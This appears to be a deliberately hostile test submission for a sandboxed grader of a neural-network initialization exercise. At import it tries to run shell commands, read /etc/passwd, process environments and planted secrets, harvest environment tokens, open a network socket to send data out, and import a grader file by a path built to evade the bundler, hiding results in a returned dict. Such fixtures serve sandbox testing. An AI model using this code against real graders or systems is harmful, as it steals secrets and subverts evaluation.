// @ts-nocheck: a student submission, type-checked by nobody (the grader only bundles it).
// Hostile: at import, tries everything Node offers to leave its sandbox: start a shell, read the rubric, planted
// secrets and /etc/passwd, write outside, open a worker, reach the network (the port a test listens on), read the
// grader's environment, and import a file outside its folder at run time. Whatever succeeds is printed and
// returned (an extra "leaked" entry in initialize_parameters_zeros's dict). Contained twice: Node's permission
// model refuses processes, workers, writes and reads beyond the bundle, and the sandbox shows no such files, no
// network and a scrubbed environment. The functions below are correct.
import { execSync, spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { Worker } from "node:worker_threads";
import np from "numpy";

const leaked: string[] = [];
const attempt = (label: string, act: () => unknown): void => {
  try {
    const result = act();
    leaked.push(`${label}: ${String(result).slice(0, 300)}`);
  } catch (error) {
    console.log(`${label}: refused (${error.code ?? error.name})`);
  }
};

attempt("shell", () => execSync("id; cat /work/main/rubrics/initialization.yaml", { encoding: "utf8" }));
attempt("spawn", () => spawnSync("/bin/sh", ["-c", "id"]).stdout);
for (const path of [
  "/work/main/rubrics/initialization.yaml",
  "/tmp/nn-grader-planted-secret.txt",
  "/var/tmp/nn-grader-planted-secret.txt",
  "/root/.nn-grader-planted-secret",
  "/etc/passwd",
  "/proc/1/environ",
]) {
  attempt(`read ${path}`, () => readFileSync(path, "utf8"));
}
attempt("write /tmp", () => writeFileSync("/tmp/nn-grader-hostile-was-here", "x"));
attempt("worker", () => new Worker("process.exit(0)", { eval: true }));
const secrets = Object.entries(process.env).filter(([name]) => /SECRET|TOKEN|KEY|PLANTED/.test(name));
if (secrets.length > 0) leaked.push(`env: ${JSON.stringify(secrets)}`);
const socket = connect(47913, "127.0.0.1", () => {
  leaked.push("network: connected");
  socket.end("nn-grader-hostile-network: exfiltrated submission");
});
socket.on("error", (error) => console.log(`network: refused (${error.code})`));
try {
  // Built at run time, so that the bundler cannot see (and refuse) it: only Node's permission model is left.
  const outside = ["file://", "/work/main/grader/runners/node", "/driver.ts"].join("");
  await import(outside);
  leaked.push("imported a file outside the submission");
} catch (error) {
  console.log(`import outside: refused (${error.code ?? error.name})`);
}
for (const line of leaked) console.log(`LEAKED ${line}`);

type Parameters = Record<string, unknown>;

export function initialize_parameters_zeros(layersDims: number[]): Parameters {
  const parameters: Parameters = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters[`W${l}`] = np.zeros([layersDims[l], layersDims[l - 1]]);
    parameters[`b${l}`] = np.zeros([layersDims[l], 1]);
  }
  if (leaked.length > 0) parameters.leaked = leaked;
  return parameters;
}

export function initialize_parameters_random(layersDims: number[]): Parameters {
  np.random.seed(3);
  const parameters: Parameters = {};
  for (let l = 1; l < layersDims.length; l++) {
    parameters[`W${l}`] = np.random.randn(layersDims[l], layersDims[l - 1]).map((row) => row.map((x) => x * 10));
    parameters[`b${l}`] = np.zeros([layersDims[l], 1]);
  }
  return parameters;
}

export function initialize_parameters_he(layersDims: number[]): Parameters {
  np.random.seed(3);
  const parameters: Parameters = {};
  for (let l = 1; l < layersDims.length; l++) {
    const k = Math.sqrt(2 / layersDims[l - 1]);
    parameters[`W${l}`] = np.random.randn(layersDims[l], layersDims[l - 1]).map((row) => row.map((x) => x * k));
    parameters[`b${l}`] = np.zeros([layersDims[l], 1]);
  }
  return parameters;
}
